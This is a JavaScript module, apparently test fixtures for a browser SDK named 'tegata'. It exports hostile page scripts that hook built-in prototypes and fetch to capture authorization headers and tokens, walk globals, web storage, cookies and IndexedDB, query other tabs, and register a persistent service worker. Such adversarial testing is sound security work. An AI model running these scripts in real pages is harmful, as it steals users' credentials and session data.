// What a hostile script does in a page: it changes all that can be changed, keeps what comes by, and walks what
// it can reach.

// Keeps whatever strings come by: arguments, objects, answers.
export const PATCHES = `(() => {
  globalThis.loot = []
  const apply = Reflect.apply
  const { get: textOf } = Object.getOwnPropertyDescriptor(XMLHttpRequest.prototype, 'responseText')
  const { get: headersOf } = Object.getOwnPropertyDescriptor(Request.prototype, 'headers')
  const getHeader = Headers.prototype.get, cloneOf = Response.prototype.clone, read = Response.prototype.text
  const then = Promise.prototype.then
  let busy = false
  const keep = it => {
    if (busy) return
    busy = true
    try {
      if (typeof it === 'string') loot[loot.length] = it
      else if (it instanceof XMLHttpRequest) loot[loot.length] = apply(textOf, it, [])
      else if (it instanceof Request) loot[loot.length] = String(apply(getHeader, apply(headersOf, it, []), ['authorization']))
      else if (it instanceof Headers) loot[loot.length] = String(apply(getHeader, it, ['authorization']))
      else if (it instanceof Response) apply(then, apply(read, apply(cloneOf, it, []), []), [text => { loot[loot.length] = text }])
      else if (it instanceof Promise) apply(then, it, [keep, () => {}])
      else if (it && typeof it === 'object') for (const name in it) if (typeof it[name] === 'string') loot[loot.length] = it[name]
    } catch {} finally { busy = false }
  }
  const spy = (of, name) => {
    const own = Object.getOwnPropertyDescriptor(of, name)
    if (!own?.configurable) return
    const around = inner => function (...rest) {
      keep(this); for (let i = 0; i < rest.length; i += 1) keep(rest[i])
      const result = new.target ? Reflect.construct(inner, rest, new.target) : apply(inner, this, rest)
      keep(result)
      return result
    }
    if (typeof own.value === 'function') Object.defineProperty(of, name, { ...own, value: around(own.value) })
    else if (own.get) Object.defineProperty(of, name, { ...own, get: around(own.get), set: own.set && around(own.set) })
  }
  for (const of of [XMLHttpRequest, Headers, Request, Response, String, Array, Promise, Map, BroadcastChannel, Storage, URL]) {
    for (const name of Reflect.ownKeys(of.prototype)) if (name !== 'constructor') spy(of.prototype, name)
  }
  for (const name of ['call', 'apply', 'bind']) spy(Function.prototype, name)
  for (const name of ['parse', 'stringify']) spy(JSON, name)
  for (const name of ['apply', 'defineProperty', 'get', 'set', 'construct']) spy(Reflect, name)
  for (const name of ['fetch', 'atob', 'setTimeout', 'XMLHttpRequest', 'Headers', 'Promise', 'URL']) spy(globalThis, name)
  for (const name of ['then', 'value', 'get', 'set', 'token', 'access_token', 'authorization', 'redirect', 'headers', 'signal']) {
    const put = value => function () { keep(this); return value }
    if (name === 'get' || name === 'set' || name === 'value') continue
    Object.defineProperty(Object.prototype, name, { configurable: true, get: put(undefined), set(it) { keep(it); keep(this); Object.defineProperty(this, name, { value: it, writable: true, configurable: true, enumerable: true }) } })
  }
  Object.defineProperty(Promise.prototype, 'constructor', { configurable: true, get() { keep(this); return class extends Promise {} } })
})()`

// Walks all that can be reached from the globals and the SDK's own object, and all that is stored.
export const SEARCH = `(async () => {
  const seen = new Set(), found = []
  const walk = (it, depth) => {
    if (typeof it === 'string') found.push(it)
    if (it === null || (typeof it !== 'object' && typeof it !== 'function') || seen.has(it) || depth > 6) return
    seen.add(it)
    for (const key of Reflect.ownKeys(it)) {
      const own = Object.getOwnPropertyDescriptor(it, key)
      if (own && 'value' in own) walk(own.value, depth + 1)
      else if (own?.get) { try { walk(own.get.call(it), depth + 1) } catch {} }
    }
    walk(Object.getPrototypeOf(it), depth + 1)
    if (typeof it === 'function') found.push(Function.prototype.toString.call(it))
  }
  walk(session, 0); walk(globalThis, 0); walk(await import('/assets/tegata/native.js'), 0)
  walk(await import('/assets/tegata/session.js'), 0)
  found.push(JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage }), document.cookie, location.href, name)
  found.push(document.documentElement.outerHTML, JSON.stringify(history.state), JSON.stringify(performance.getEntries()))
  found.push(JSON.stringify(await indexedDB.databases()), JSON.stringify(await caches.keys()))
  return found
})()`

// Asks the other tabs for what they have, and hears what they say.
export const LISTEN = `new Promise(resolve => {
  const heard = []
  const channel = new BroadcastChannel('tegata')
  channel.onmessage = ({ data }) => {
    heard.push(JSON.stringify(data))
    if (data.kind === 'held') resolve(heard)
  }
  channel.postMessage({ kind: 'ask' })
})`

// All that scripts are told of cookies.
export const COOKIES = `cookieStore.getAll().then(all => [document.cookie, JSON.stringify(all)])`

// Wants something to stay where the tab is gone: a worker that sees all requests. Of its own making, or of a script that
// the origin has.
export const STAY = `(async () => {
  const left = []
  const own = URL.createObjectURL(new Blob(['addEventListener("fetch", () => {})'], { type: 'text/javascript' }))
  const here = '/assets/tegata/session.js'
  for (const [script, options] of [[own], ['data:text/javascript,0'], [here, { type: 'module' }], [here, { type: 'module', scope: '/' }]]) {
    try { left.push((await navigator.serviceWorker.register(script, options)).scope) } catch {}
  }
  return left
})()`

/** What of it is tried in each mode, as the table of docs/browser.md calls it. */
export const TRIES = {
  search: 'searches storage, globals, properties, prototypes and the document',
  patches: 'changes functions, prototypes and promises, and keeps what they are handed',
  cookies: 'reads cookies',
  away: 'has the SDK send it to other origins, by redirects or by addresses that change',
  channel: 'asks the other tabs, and listens to them',
  server: 'asks the server for all that it gives the SDK',
  acts: 'calls services as the person',
  stays: 'leaves a service worker behind',
}
